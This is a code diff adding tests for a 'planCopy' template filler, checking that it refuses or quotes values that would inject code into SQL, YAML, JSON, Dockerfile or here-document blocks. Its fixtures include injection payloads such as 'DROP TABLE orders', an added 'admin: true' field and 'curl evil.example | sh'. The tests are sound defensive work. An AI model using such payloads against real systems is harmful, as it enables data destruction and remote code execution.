@@ -114,6 +114,39 @@ describe('planCopy', () => {
   it('leaves YAML values as typed', () => {
     const plan = planCopy('image: __IMAGE_NAME__', { values: { IMAGE_NAME: 'a b' }, lang: 'yaml' });
     expect(plan.ok && plan.text).toBe('image: a b');
+    const url = planCopy('url = "__DATABASE_URL__"', {
+      values: { DATABASE_URL: 'postgres://app@db.internal:5432/shop?sslmode=require' },
+      lang: 'python',
+    });
+    expect(url.ok && url.text).toBe('url = "postgres://app@db.internal:5432/shop?sslmode=require"');
+  });
+  it.each([
+    ['sql', 'CREATE ROLE __DB_USER__ LOGIN;', 'ops; DROP ROLE admin; --', ';'],
+    ['sql', "GRANT SELECT ON orders TO '__DB_USER__';", "x'; DROP TABLE orders; --", "'"],
+    ['yaml', 'image: __DB_USER__', 'a\n  command: [sh]', '['],
+    ['json', '{"user": "__DB_USER__"}', 'a", "admin": true, "b": "', '"'],
+    ['dockerfile', 'RUN useradd __DB_USER__', 'x && curl evil.example | sh', '&'],
+  ])('refuses a value a %s block could read as code (%j)', (lang, template, value, char) => {
+    const plan = planCopy(template, { values: { DB_USER: value }, lang });
+    expect(plan).toEqual({
+      ok: false,
+      unsafe: { name: 'DB_USER', char, where: `a ${lang} block` },
+      reason: `Not copied: DB_USER holds ${JSON.stringify(char)}, which a ${lang} block could read as code (values go into it as typed). Change it under Your values, or clear it to copy __DB_USER__ as written.`,
+    });
+  });
+  it("refuses it in a quoted here-document's body, which the shell does not read but another program does", () => {
+    const template = "psql <<'SQL'\nCREATE ROLE __DB_USER__ LOGIN;\nSQL\necho __DB_USER__";
+    const plan = planCopy(template, { values: { DB_USER: 'x; DROP ROLE admin' } });
+    expect(plan.ok).toBe(false);
+    expect(!plan.ok && plan.reason).toContain('which a quoted here-document could read as code');
+    expect(planCopy(template, { values: { DB_USER: 'ops_reader' } })).toMatchObject({
+      ok: true,
+      text: "psql <<'SQL'\nCREATE ROLE ops_reader LOGIN;\nSQL\necho ops_reader",
+    });
+  });
+  it('quotes the same value in a shell block instead of refusing it', () => {
+    const plan = planCopy('echo __DB_USER__', { values: { DB_USER: 'ops; DROP ROLE admin; --' } });
+    expect(plan.ok && plan.text).toBe("echo 'ops; DROP ROLE admin; --'");
   });
 });
 
